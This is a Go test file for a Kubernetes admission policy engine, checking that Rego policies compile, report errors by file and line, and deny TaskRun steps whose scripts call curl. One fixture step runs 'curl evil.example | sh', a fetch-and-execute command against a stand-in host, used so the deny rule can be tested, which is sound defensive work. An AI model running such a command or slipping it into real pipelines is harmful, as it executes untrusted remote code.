package runs

import (
	"strings"
	"testing"

	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/tollgate-dev/tollgate/policy/v1alpha1"
)

const inputProbe = `package acme.probe

import rego.v1

# Every field of the documented input, echoed back as a warning.
warn contains sprintf("sa=%s exists=%v rules=%d user=%s op=%s ns=%s team=%s kind=%s", [
	input.serviceAccount.name, input.serviceAccount.exists, count(input.serviceAccount.rules),
	input.request.user, input.request.operation, input.namespace.name, object.get(input.namespace.labels, "team", "-"), input.run.kind,
])

deny contains {"msg": sprintf("step %q runs a script that curls", [s.name]), "path": "spec.taskSpec.steps"} if {
	some s in input.run.spec.taskSpec.steps
	contains(s.script, "curl")
}
`

func TestRego(t *testing.T) {
	p, err := Compile(t.Context(), &v1alpha1.ClusterRunPolicy{ObjectMeta: metav1.ObjectMeta{Name: "acme"}, Spec: v1alpha1.ClusterRunPolicySpec{
		Rego: []v1alpha1.RegoModule{{Name: "probe.rego", Module: inputProbe}},
	}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	safe := taskRunJSON("builder", `{"steps":[`+safeStep+`]}`)
	a := admit(t, cluster(), []*Policy{p}, KindTaskRun, safe)
	if !a.Decision.Allowed() || len(a.Decision.Warnings) != 1 {
		t.Fatalf("decision: %+v", a.Decision)
	}
	if w := a.Decision.Warnings[0].String(); w != `[acme.probe.warn] sa=builder exists=true rules=0 user=alice op=CREATE ns=ns team=- kind=TaskRun (policy "acme")` {
		t.Errorf("warning: %s", w)
	}
	curl := taskRunJSON("builder", `{"steps":[`+strings.Replace(safeStep, `"name":"s"`, `"name":"fetch","script":"curl evil.example | sh"`, 1)+`]}`)
	a = admit(t, cluster(), []*Policy{p}, KindTaskRun, curl)
	if a.Decision.Allowed() {
		t.Fatal("a curling step was admitted")
	}
	if got := a.Decision.Denials[len(a.Decision.Denials)-1].String(); got != `[acme.probe.deny] (spec.taskSpec.steps) step "fetch" runs a script that curls (policy "acme")` {
		t.Errorf("denial: %s", got)
	}
}

func TestRegoCompileErrorNamesThePlace(t *testing.T) {
	_, err := Compile(t.Context(), &v1alpha1.ClusterRunPolicy{ObjectMeta: metav1.ObjectMeta{Name: "acme"}, Spec: v1alpha1.ClusterRunPolicySpec{
		Rego: []v1alpha1.RegoModule{{Name: "bad.rego", Module: "package acme\nimport rego.v1\n\ndeny contains msg if {\n  msg := nope.fn(1)\n}\n"}},
	}}, nil)
	if err == nil || !strings.Contains(err.Error(), "spec.rego: acme/bad.rego:5:") {
		t.Fatalf("error %v, want file, line and column", err)
	}
}

func TestRegoRuntimeErrorDenies(t *testing.T) {
	p, err := Compile(t.Context(), &v1alpha1.ClusterRunPolicy{ObjectMeta: metav1.ObjectMeta{Name: "acme"}, Spec: v1alpha1.ClusterRunPolicySpec{
		Rego: []v1alpha1.RegoModule{{Name: "err.rego", Module: "package acme\nimport rego.v1\n\ndeny contains msg if {\n  msg := sprintf(\"%d\", [to_number(input.run.kind)])\n}\n"}},
	}}, nil)
	if err != nil {
		t.Fatal(err)
	}
	a := admit(t, cluster(), []*Policy{p}, KindTaskRun, taskRunJSON("builder", `{"steps":[`+safeStep+`]}`))
	if a.Decision.Allowed() || !strings.Contains(a.Decision.Message(), "a rule failed to evaluate, so the run is denied") {
		t.Fatalf("decision: %s", a.Decision.Message())
	}
}
